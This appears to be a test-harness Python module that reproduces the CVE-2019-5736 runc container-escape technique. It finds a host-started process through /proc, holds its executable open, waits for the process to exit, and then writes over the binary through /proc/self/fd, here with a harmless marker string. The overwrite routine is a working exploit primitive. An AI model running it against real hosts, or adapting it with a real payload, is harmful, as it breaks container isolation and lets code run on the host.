"""Writes into the program of a process that the host starts in the container (as runc's was overwritten, CVE-2019-5736)."""

import os
import time


def begun_with(argument):
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    if file.read().split(b"\0")[1:2] == [argument.encode()]:
                        return pid
            except OSError:
                pass  # it has ended
        time.sleep(0.005)


def overwrite(argument, held):
    """Of a process whose first argument this is; `held`: it waits for a reader of the FIFO of this name."""
    if held:
        os.mkfifo(held)
    print("ready", flush=True)
    pid = begun_with(argument)
    try:
        program = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
        if held:
            os.close(os.open(held, os.O_RDONLY))
        while os.path.exists(f"/proc/{pid}"):
            time.sleep(0.005)  # the program of a process that runs cannot be written to
        os.write(os.open(f"/proc/self/fd/{program}", os.O_WRONLY), b"overwritten")
        print("written", flush=True)
    except OSError as error:
        print("refused", error.strerror, flush=True)
